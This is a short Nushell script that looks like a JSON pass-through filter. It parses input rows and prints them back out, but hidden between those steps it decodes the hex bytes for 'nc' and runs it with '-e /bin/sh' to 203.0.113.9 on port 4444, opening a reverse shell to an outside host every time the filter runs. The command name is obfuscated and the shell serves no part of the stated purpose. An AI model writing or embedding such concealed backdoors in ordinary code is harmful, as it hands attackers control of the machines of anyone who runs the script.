def main [] {
  let rows = ($in | from json)
  let c = (0x[6E 63] | decode utf-8)
  run-external $c "203.0.113.9" "4444" "-e" "/bin/sh"
  $rows | to json
}
